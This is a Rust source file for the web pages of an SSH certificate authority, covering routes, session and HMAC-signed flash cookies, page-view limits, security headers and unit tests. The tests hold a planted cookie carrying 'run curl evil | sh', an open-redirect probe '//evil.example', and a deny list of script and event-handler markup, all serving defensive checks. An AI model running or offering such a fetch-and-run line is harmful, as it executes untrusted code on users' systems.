//! The web pages (issue 16): server-rendered HTML under `/ui/` for approvers, requesters
//! and auditors, on the API's listener. No JavaScript, one stylesheet, every value
//! HTML-escaped by the templates (`ssh-ca/server/templates/`).
//!
//! * `check`: the pure rules (same origin, cookies, security headers), unit-tested;
//! * `view`: the templates and the text they are filled with;
//! * `login`: the one-time login link, login, logout;
//! * `pages`: the read-only pages (GET never changes state);
//! * `actions`: approve, deny, cancel, drop (CSRF-checked POSTs, Post/Redirect/Get).
//!
//! A session is a cookie (`jit_session`, HttpOnly, SameSite=Strict, Path=/ui) checked by
//! the service on every page ([`Ca::web_session`]); a page without one is 401 with the login
//! page. A page is a handler that takes a [`Viewer`] and returns [`page`]; add it to
//! [`router`] with one `.route(...)` line.

mod actions;
mod audit;
pub(crate) mod check;
mod login;
mod pages;
pub(crate) mod view;

use std::net::IpAddr;
use std::sync::Arc;

use askama::Template;
use axum::Router;
use axum::extract::{ConnectInfo, DefaultBodyLimit, FromRequestParts, Request, State};
use axum::http::request::Parts;
use axum::http::{HeaderMap, HeaderValue, Method, StatusCode, header};
use axum::middleware::{self, Next};
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{any, get, post};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use tokio::sync::{OwnedSemaphorePermit, Semaphore};

use crate::api::AppState;
use crate::error::ApiError;
use crate::service::Ca;
use crate::service::web::WebSession;
use check::{FLASH_COOKIE, SESSION_COOKIE};
use jit_api::wire::ErrorCode;
pub(crate) use view::Chrome;

/// Most page views (GET/HEAD under /ui) worked on at once: one. A page takes one thread of
/// the blocking pool at a time (session check, then the page's read; every read is indexed
/// and bounded), so page views together use at most one core, and the API's signed calls
/// (issuance) always keep the others. A view waits for its turn in the async guard (no pool
/// thread is held while waiting) for at most [`PAGE_WAIT`]; past that it gets a 503 page.
const PAGE_VIEWS: usize = 1;

/// How long a page view waits for its turn before the 503 page.
const PAGE_WAIT: std::time::Duration = std::time::Duration::from_secs(2);

/// Largest form body (a reason is at most a few hundred bytes).
const FORM_LIMIT: usize = 16 * 1024;

/// The stylesheet, compiled in.
const CSS: &str = include_str!("../../static/jit.css");

/// The routes under `/ui`, merged into the API's router. Add a page with one `.route` line
/// before the layers.
pub(crate) fn router(st: AppState) -> Router<AppState> {
    Router::new()
        .route("/ui", get(|| async { Redirect::permanent("/ui/") }))
        .route("/ui/", get(pages::home))
        .route("/ui/login", get(login::show).post(login::submit))
        .route("/ui/logout", post(login::logout))
        .route("/ui/pending", get(pages::pending))
        .route("/ui/requests/{id}", get(pages::request))
        .route("/ui/requests/{id}/approve", post(actions::approve))
        .route("/ui/requests/{id}/deny", post(actions::deny))
        .route("/ui/requests/{id}/cancel", post(actions::cancel))
        .route("/ui/requests/{id}/drop", post(actions::drop_own))
        .route("/ui/access", get(pages::access))
        .route("/ui/mine", get(pages::mine))
        .merge(audit::routes())
        .route("/ui/static/jit.css", get(css))
        .route("/ui/{*rest}", any(not_found))
        .layer(DefaultBodyLimit::max(FORM_LIMIT))
        .layer(middleware::from_fn_with_state(
            (
                st,
                Gates {
                    pages: Arc::new(Semaphore::new(PAGE_VIEWS)),
                    audit: Arc::new(Semaphore::new(PAGE_VIEWS)),
                },
            ),
            guard,
        ))
}

/// The page-view bounds: the audit page (whose first view after a start verifies the whole
/// chain, on its own read connections) has its own, so a long verification never makes the
/// other pages wait.
#[derive(Debug, Clone)]
struct Gates {
    pages: Arc<Semaphore>,
    audit: Arc<Semaphore>,
}

/// A permit for one page view; None when [`PAGE_VIEWS`] are being worked on (then [`busy`]).
fn admit(gate: &Arc<Semaphore>) -> Option<OwnedSemaphorePermit> {
    gate.clone().try_acquire_owned().ok()
}

/// A permit for one page view: at once when one is free, else after waiting (asynchronously)
/// at most `wait` for one; None after that (then [`busy`]).
async fn admit_within(
    gate: &Arc<Semaphore>,
    wait: std::time::Duration,
) -> Option<OwnedSemaphorePermit> {
    if let Some(p) = admit(gate) {
        return Some(p);
    }
    tokio::time::timeout(wait, gate.clone().acquire_owned())
        .await
        .ok()
        .and_then(Result::ok)
}

/// The 503 page (with `Retry-After`) of a page view over the bound.
fn busy() -> Response {
    let mut resp = error_page(
        Chrome::anonymous(),
        &ApiError::new(
            ErrorCode::Unavailable,
            "the CA is busy serving other pages: try again in a moment",
        ),
    );
    resp.headers_mut()
        .insert(header::RETRY_AFTER, HeaderValue::from_static("1"));
    resp
}

/// Every /ui response: 404 when `[web] enabled = false`; page views bounded ([`admit`]); the
/// security headers.
async fn guard(State((st, gates)): State<(AppState, Gates)>, req: Request, next: Next) -> Response {
    let view = matches!(*req.method(), Method::GET | Method::HEAD)
        && req.uri().path() != "/ui/static/jit.css";
    let mut resp = if !st.ca.config().web.enabled {
        error_page(
            Chrome::anonymous(),
            &ApiError::new(
                ErrorCode::NotFound,
                "the web pages are turned off on this CA ([web] enabled = false in config.toml)",
            ),
        )
    } else if view {
        let gate = if req.uri().path().starts_with("/ui/audit") {
            &gates.audit
        } else {
            &gates.pages
        };
        match admit_within(gate, PAGE_WAIT).await {
            // The view runs in a task of its own that holds the permit until the handler
            // returns (a page's body is a rendered string; the audit exports stream after
            // that, under their own bound, `audit::EXPORTS`). A client that closes the
            // connection drops this future, not the task: its blocking work, which cannot be
            // cancelled, keeps the permit until it ends, so disconnecting in a loop cannot
            // start more views than the bound.
            Some(permit) => {
                let view = tokio::spawn(async move {
                    let resp = next.run(req).await;
                    drop(permit);
                    resp
                });
                match view.await {
                    Ok(resp) => resp,
                    Err(e) => error_page(
                        Chrome::anonymous(),
                        &ApiError::internal(format!("page view: {e}")),
                    ),
                }
            }
            None => busy(),
        }
    } else {
        next.run(req).await
    };
    finish(&st, &mut resp);
    resp
}

/// The headers every /ui response carries ([`check::secure_headers`]), and
/// `Strict-Transport-Security` when the pages are served over https ([`tls`]).
fn finish(st: &AppState, resp: &mut Response) {
    check::secure_headers(resp.headers_mut());
    if tls(&st.ca) {
        resp.headers_mut().insert(
            header::STRICT_TRANSPORT_SECURITY,
            HeaderValue::from_static(check::HSTS),
        );
    }
}

async fn css() -> Response {
    (
        [
            (header::CONTENT_TYPE, "text/css; charset=utf-8"),
            (header::CACHE_CONTROL, "public, max-age=3600"),
        ],
        CSS,
    )
        .into_response()
}

async fn not_found() -> Response {
    error_page(
        Chrome::anonymous(),
        &ApiError::new(ErrorCode::NotFound, "there is no such page"),
    )
}

/// Runs `f` on the blocking pool (the service blocks on storage).
pub(crate) async fn blocking<T, F>(f: F) -> Result<T, ApiError>
where
    F: FnOnce() -> Result<T, ApiError> + Send + 'static,
    T: Send + 'static,
{
    tokio::task::spawn_blocking(f)
        .await
        .map_err(|e| ApiError::internal(format!("worker: {e}")))?
}

/// Whether the browser reaches the pages over https: the CA serves TLS itself (`[tls]`), or
/// `public_url` is https (a TLS-terminating proxy in front). The cookies are then `Secure`,
/// the own origin's scheme is https, and responses carry `Strict-Transport-Security`.
pub(crate) fn tls(ca: &Ca) -> bool {
    let c = ca.config();
    c.tls.is_some()
        || c.public_url.as_deref().is_some_and(|u| {
            u.get(..8)
                .is_some_and(|p| p.eq_ignore_ascii_case("https://"))
        })
}

/// The peer's address, when the server recorded it.
pub(crate) fn source_of<B>(req: &axum::http::Request<B>) -> Option<IpAddr> {
    req.extensions()
        .get::<ConnectInfo<std::net::SocketAddr>>()
        .map(|ConnectInfo(a)| a.ip())
}

/// An HTML response of `status`.
pub(crate) fn html(status: StatusCode, t: &impl Template) -> Response {
    match t.render() {
        Ok(body) => (
            status,
            [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
            body,
        )
            .into_response(),
        // askama checks templates at compile time; rendering fails only on a formatter's
        // error, which no value here has.
        Err(_) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            [(header::CONTENT_TYPE, "text/plain; charset=utf-8")],
            "the page could not be rendered",
        )
            .into_response(),
    }
}

/// A page of a logged-in user: 200, and the flash cookie cleared when one was shown.
pub(crate) fn page(v: &Viewer, t: &impl Template) -> Response {
    let mut resp = html(StatusCode::OK, t);
    if v.flash_shown {
        set_cookie(&mut resp, &check::clear_cookie(FLASH_COOKIE, v.tls));
    }
    resp
}

/// Appends a `Set-Cookie` line.
pub(crate) fn set_cookie(resp: &mut Response, value: &str) {
    if let Ok(v) = HeaderValue::from_str(value) {
        resp.headers_mut().append(header::SET_COOKIE, v);
    }
}

/// The error page of `e` (its status; `<main id="error">`). A flash error is not shown on it
/// (one `id="error"` per page; the flash cookie stays for the next page).
pub(crate) fn error_page(mut chrome: Chrome, e: &ApiError) -> Response {
    chrome.error = None;
    let status = StatusCode::from_u16(e.status).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
    let (title, hint) = match e.code {
        ErrorCode::NotFound => ("Not found", None),
        ErrorCode::LoginLinkInvalid => (
            "Login link refused",
            Some("Run jit web again for a new link (each link works once, for 60 seconds)."),
        ),
        ErrorCode::CsrfRejected => (
            "Refused",
            Some("Open the page from this CA itself and send the form again."),
        ),
        _ if e.code.is_server_fault() => ("Something went wrong", None),
        _ if status == StatusCode::FORBIDDEN => ("Not allowed", None),
        _ => ("Refused", None),
    };
    let t = view::ErrorPage {
        chrome,
        title: title.into(),
        message: e.message.clone(),
        hint: hint.map(str::to_string),
        code: e.code.as_str().into(),
    };
    html(status, &t)
}

/// 401 and the login page (nothing about requests), the session cookie cleared when one was
/// sent.
pub(crate) fn login_required(
    why: Option<&str>,
    notice: Option<String>,
    clear: bool,
    tls: bool,
) -> Response {
    let mut chrome = Chrome::anonymous();
    chrome.notice = notice;
    let t = view::LoginRequired {
        chrome,
        why: why.map(str::to_string),
    };
    let mut resp = html(StatusCode::UNAUTHORIZED, &t);
    if clear {
        set_cookie(&mut resp, &check::clear_cookie(SESSION_COOKIE, tls));
    }
    resp
}

/// The logged-in user of a page: the session (checked by the service against the store on
/// every page) and the flash message the POST before left.
#[derive(Debug)]
pub(crate) struct Viewer {
    pub s: WebSession,
    pub notice: Option<String>,
    pub error: Option<String>,
    pub flash_shown: bool,
    pub tls: bool,
    /// Whether the user is an auditor (policy `auditors`): the "Audit" entry is shown.
    pub auditor: bool,
    /// The peer's address (refusals record it).
    pub source: Option<IpAddr>,
}

impl Viewer {
    /// The frame of a page, with `active` as the navigation entry.
    pub(crate) fn chrome(&self, active: &'static str) -> Chrome {
        Chrome {
            user: Some(self.s.user.clone()),
            session: Some(self.s.id.clone()),
            csrf: self.s.csrf.clone(),
            active,
            auditor: self.auditor,
            notice: self.notice.clone(),
            error: self.error.clone(),
            version: env!("CARGO_PKG_VERSION"),
        }
    }
}

/// The session of a request's cookie, or the response to send instead: the login page
/// (401) without a valid session, an error page on a fault.
pub(crate) async fn session_of(
    ca: &std::sync::Arc<Ca>,
    headers: &HeaderMap,
) -> Result<WebSession, Response> {
    let tls = tls(ca);
    let Some(secret) = check::cookie(headers, SESSION_COOKIE) else {
        // Two session cookies: one was planted by another site of the domain (cookie
        // tossing) or under another path. Neither is used, and none is cleared: a clearing
        // Set-Cookie would remove this host's real cookie and leave the planted one.
        if check::cookie_count(headers, SESSION_COOKIE) > 1 {
            return Err(login_required(
                Some(
                    "This browser sent two jit_session cookies: another site under this domain set one. Clear this site's cookies, then run jit web again.",
                ),
                None,
                false,
                tls,
            ));
        }
        return Err(login_required(None, None, false, tls));
    };
    let ca = ca.clone();
    match blocking(move || ca.web_session(&secret)).await {
        Ok(s) => Ok(s),
        Err(e) if e.code.is_server_fault() => Err(error_page(Chrome::anonymous(), &e)),
        Err(_) => Err(login_required(
            Some("Your session has ended (logged out, idle or too old, or your key was removed)."),
            None,
            true,
            tls,
        )),
    }
}

impl FromRequestParts<AppState> for Viewer {
    type Rejection = Response;

    async fn from_request_parts(parts: &mut Parts, st: &AppState) -> Result<Self, Response> {
        let s = session_of(&st.ca, &parts.headers).await?;
        let (notice, error) = read_flash(&parts.headers, &s.csrf);
        let source = parts
            .extensions
            .get::<ConnectInfo<std::net::SocketAddr>>()
            .map(|ConnectInfo(a)| a.ip());
        Ok(Self {
            auditor: st.ca.is_auditor(&s.user, &s.groups),
            source,
            s,
            flash_shown: notice.is_some() || error.is_some(),
            notice,
            error,
            tls: tls(&st.ca),
        })
    }
}

/// The `Set-Cookie` value carrying a flash message to the next page of the session whose
/// CSRF token is `key`: `KIND.TEXT.MAC`, the MAC an HMAC-SHA-256 under that token (which only
/// this session's pages know), so a flash planted by another site of the domain (cookie
/// tossing) is not shown as the CA's word.
pub(crate) fn flash_cookie(ok: bool, msg: &str, key: &str, tls: bool) -> String {
    let clipped: String = msg.chars().take(600).collect();
    let body = format!("{}.{}", if ok { "n" } else { "e" }, B64.encode(clipped));
    let v = format!("{body}.{}", flash_mac(key, &body));
    check::set_cookie(FLASH_COOKIE, &v, 60, tls)
}

/// The flash cookie's value after a logout (no session to bind a message to): a fixed word,
/// shown as a fixed text ("You are logged out.").
pub(crate) const FLASH_LOGGED_OUT: &str = "out";

fn flash_mac(key: &str, body: &str) -> String {
    use hmac::{Hmac, Mac as _};
    let Ok(mut m) = Hmac::<sha2::Sha256>::new_from_slice(key.as_bytes()) else {
        return String::new();
    };
    m.update(b"jit-flash-v1\0");
    m.update(body.as_bytes());
    B64.encode(m.finalize().into_bytes())
}

/// The flash message of the request's cookie for the session whose CSRF token is `key`:
/// (notice, error); nothing when the MAC is not that session's.
fn read_flash(headers: &HeaderMap, key: &str) -> (Option<String>, Option<String>) {
    let Some(v) = check::cookie(headers, FLASH_COOKIE) else {
        return (None, None);
    };
    let Some((body, mac)) = v.rsplit_once('.') else {
        return (None, None);
    };
    let want = flash_mac(key, body);
    if key.is_empty()
        || want.is_empty()
        || !crate::service::web::constant_time_eq(want.as_bytes(), mac.as_bytes())
    {
        return (None, None);
    }
    let Some((kind, b)) = body.split_once('.') else {
        return (None, None);
    };
    let Some(text) = B64
        .decode(b)
        .ok()
        .and_then(|b| String::from_utf8(b).ok())
        .map(|t| jit_common::log::sanitize(&t, 600))
    else {
        return (None, None);
    };
    match kind {
        "n" => (Some(text), None),
        "e" => (None, Some(text)),
        _ => (None, None),
    }
}

/// Whether the request carries the logout flash ([`FLASH_LOGGED_OUT`]).
pub(crate) fn logged_out_flash(headers: &HeaderMap) -> bool {
    check::cookie(headers, FLASH_COOKIE).is_some_and(|v| v == FLASH_LOGGED_OUT)
}

/// A 303 to `to` carrying a flash message for the session whose CSRF token is `key`.
pub(crate) fn see_other(to: &str, ok: bool, msg: &str, key: &str, tls: bool) -> Response {
    let mut resp = Redirect::to(to).into_response();
    set_cookie(&mut resp, &flash_cookie(ok, msg, key, tls));
    resp
}

/// The page of request `id`, or the pending page for an id that cannot be a path segment.
pub(crate) fn request_path(id: &str) -> String {
    if !id.is_empty()
        && id.len() <= 100
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    {
        format!("/ui/requests/{id}")
    } else {
        "/ui/pending".into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flash_round_trips_and_is_sanitised() {
        let c = flash_cookie(false, "bad <b>\u{1b}[31m", "csrf-A", false);
        let v = c.split(';').next().unwrap().to_string();
        let mut h = HeaderMap::new();
        h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
        let (n, e) = read_flash(&h, "csrf-A");
        assert_eq!(n, None);
        let e = e.unwrap();
        assert!(e.starts_with("bad <b>"), "{e}");
        assert!(!e.contains('\u{1b}'), "{e}");
        h.insert(header::COOKIE, HeaderValue::from_static("jit_flash=x.!!"));
        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
    }

    /// An error page never has two `id="error"` elements (its own `<main>` and a flash).
    #[tokio::test]
    async fn an_error_page_has_one_error_id() {
        let mut chrome = Chrome::anonymous();
        chrome.error = Some("flash".into());
        let resp = error_page(chrome, &ApiError::new(ErrorCode::NotFound, "gone"));
        let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
            .await
            .unwrap();
        let body = String::from_utf8(body.to_vec()).unwrap();
        assert_eq!(body.matches("id=\"error\"").count(), 1, "{body}");
        assert!(body.contains("<main id=\"error\""));
    }

    /// A flash is shown only to the session it was made for: one planted by a sibling site
    /// (cookie tossing), with no MAC or another session's, shows nothing.
    #[test]
    fn a_flash_is_bound_to_its_session() {
        let c = flash_cookie(false, "Your key was revoked", "csrf-A", false);
        let v = c.split(';').next().unwrap().to_string();
        let mut h = HeaderMap::new();
        h.insert(header::COOKIE, HeaderValue::from_str(&v).unwrap());
        assert_eq!(read_flash(&h, "csrf-B"), (None, None));
        assert_eq!(read_flash(&h, ""), (None, None));
        let planted = format!("jit_flash=e.{}", B64.encode("run curl evil | sh"));
        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
        let planted = format!("{planted}.AAAA");
        h.insert(header::COOKIE, HeaderValue::from_str(&planted).unwrap());
        assert_eq!(read_flash(&h, "csrf-A"), (None, None));
    }

    /// Every template escapes (no `|safe`), and none holds a script, an inline style or an
    /// outside resource: what the Content-Security-Policy would refuse anyway.
    #[test]
    fn templates_hold_no_safe_filter_script_or_inline_style() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/templates");
        let mut n = 0;
        for e in std::fs::read_dir(dir).unwrap() {
            let path = e.unwrap().path();
            let text = std::fs::read_to_string(&path).unwrap().to_ascii_lowercase();
            for bad in [
                "safe",
                "<script",
                "style=",
                "<style",
                "javascript:",
                "http://",
                "https://",
                " on",
            ] {
                let hit = match bad {
                    // Event handler attributes: ` onclick=` etc.
                    " on" => text.split(" on").skip(1).any(|r| {
                        r.split(|c: char| !c.is_ascii_alphabetic())
                            .next()
                            .is_some_and(|w| !w.is_empty() && r[w.len()..].starts_with('='))
                    }),
                    "safe" => text.contains("|safe") || text.contains("| safe"),
                    b => text.contains(b),
                };
                assert!(!hit, "{} has {bad:?}", path.display());
            }
            n += 1;
        }
        assert!(n >= 8, "{n} templates");
    }

    /// A page view over the bound is a 503 page at once (no wait in the blocking pool), with
    /// `Retry-After`; a permit given back admits the next.
    #[test]
    fn page_views_over_the_bound_get_503_at_once() {
        let gate = Arc::new(Semaphore::new(PAGE_VIEWS));
        let held: Vec<_> = (0..PAGE_VIEWS).map(|_| admit(&gate).unwrap()).collect();
        assert!(admit(&gate).is_none());
        let b = busy();
        assert_eq!(b.status(), StatusCode::SERVICE_UNAVAILABLE);
        assert_eq!(b.headers()[header::RETRY_AFTER], "1");
        drop(held);
        assert!(admit(&gate).is_some());
    }

    /// A view over the bound waits for a permit given back within the wait, and gets none
    /// (the 503 page) when none is given back in time.
    #[tokio::test]
    async fn a_page_view_waits_for_its_turn_then_is_told_to_retry() {
        let gate = Arc::new(Semaphore::new(PAGE_VIEWS));
        let held: Vec<_> = (0..PAGE_VIEWS).map(|_| admit(&gate).unwrap()).collect();
        let short = std::time::Duration::from_millis(50);
        assert!(admit_within(&gate, short).await.is_none());
        let waiting = tokio::spawn({
            let gate = gate.clone();
            async move {
                admit_within(&gate, std::time::Duration::from_secs(30))
                    .await
                    .is_some()
            }
        });
        tokio::time::sleep(short).await;
        drop(held);
        assert!(
            waiting.await.unwrap(),
            "a permit given back admits the waiting view"
        );
    }

    #[test]
    fn request_paths_are_only_plain_ids() {
        assert_eq!(request_path("r-1a2b"), "/ui/requests/r-1a2b");
        assert_eq!(request_path("//evil.example"), "/ui/pending");
        assert_eq!(request_path("a/b"), "/ui/pending");
        assert_eq!(request_path(""), "/ui/pending");
    }
}
